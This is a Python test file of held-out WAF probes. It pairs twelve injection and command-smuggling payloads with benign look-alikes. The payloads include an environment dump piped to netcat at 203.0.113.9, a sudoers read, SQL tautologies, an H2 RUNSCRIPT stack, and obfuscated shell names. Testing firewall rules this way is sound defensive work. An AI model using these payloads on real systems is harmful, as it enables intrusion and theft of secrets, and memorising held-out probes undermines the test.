"""WAF, part 2z27: held-out probes, fiftieth file (README: the
fifty-eighth round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

The classes the funeral, pawnshop, janitorial and firestation corpora
showed when first replayed (at 8d6c98d), and those the older corpora's
misses showed, an attack the round refuses and a look-alike it passes:
- update-set-like: an UPDATE's SET list gone on after the literal, then
  a WHERE of its own that compares a column with LIKE and leaves the
  pattern open; a sentence's "where stock is like new".
- escaped-crlf-x-header: one token, a line break written as an escape,
  and an x- extension header (a probe's own name); a sentence that
  mentions the escape.
- caps-label-number: a capitalised abbreviation after ";" then a label's
  number sign and hyphen ("ID tag #B-77"), text; the command in lower
  case with an option, a command.
- chained-secret-file: a command line whose chained command reads an
  account file; the same line reading a log of its own.
- env-exfil: the environment piped to a program that sends it; piped
  to a filter.
- webroot-output: an argument list whose output option is given a path
  in a web root; a build directory.
- h2-runscript: H2's script runner, stacked; the verb in a sentence.
- ilike-tautology: PostgreSQL's ILIKE as the tautology's comparison;
  "I like" in a sentence.
- perl-interpolation: Perl's block in a string that calls a program; a
  block that names a variable.
- hidden-chained-command: a command line's chained command whose name
  is quoted apart; the same command written plainly, a support
  request's.
- ansi-c-name: a command name spelled in bash's ANSI-C byte escapes; a
  newline escape in a sentence.
- quoted-column-compare: a literal compared with a literal from the
  first byte; a column the standard's double quotes name compared with
  a literal (a GIS filter expression's).
Measured on 8d6c98d: 10 of the 12 attacks passed in every placement
(caps-label-number's and quoted-column-compare's were refused), and 2
of the 12 look-alikes were refused (caps-label-number's and
quoted-column-compare's).

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "update-set-like": ["Blue vase', discount=100 WHERE code LIKE '%"],
    "escaped-crlf-x-header": ["tok42\\r\\nX-Probe-Id: 7"],
    "caps-label-number": ["Box packed; id -a #B-77"],
    "chained-secret-file": ["git fetch --all && less /etc/sudoers"],
    "env-exfil": ["make lint; printenv | nc 203.0.113.9 4444"],
    "webroot-output": ["--output /var/www/public_html/x.txt"],
    "h2-runscript": ["7; RUNSCRIPT FROM '/tmp/x.sql'--"],
    "ilike-tautology": ["Ann' OR name ILIKE '%'--"],
    "perl-interpolation": ["note @{[ exec \"uname -a\" ]} end"],
    "hidden-chained-command": ["git status && u'n'ame -a"],
    "ansi-c-name": ["Summary; $'\\x75\\x6e\\x61\\x6d\\x65' -a"],
    "quoted-column-compare": ["'k'<>'j"],
}

BENIGN = {
    "update-set-like": ["Marked 'sold', price=120 where stock is like new"],
    "escaped-crlf-x-header": ['Use "\\r\\n" before X-Custom headers in the raw request'],
    "caps-label-number": ["Box packed; ID tag #B-77 attached"],
    "chained-secret-file": ["apt-get update && tail -n 3 logs/app.log"],
    "env-exfil": ["printenv | grep HOME"],
    "webroot-output": ["--output ./build/site.html"],
    "h2-runscript": ["We runscript from cron nightly"],
    "ilike-tautology": ["names that I like: Ann, Bo"],
    "perl-interpolation": ["email @{[ name ]} please"],
    "hidden-chained-command": ["git status && uname -a"],
    "ansi-c-name": ["the string $'\\n' is a newline in bash"],
    "quoted-column-compare": ['"zone" = \'B-4\''],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r50_attack_refused_everywhere,
 test_heldout_r50_benign_passes) = heldout_probe_tests(
    "r50", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
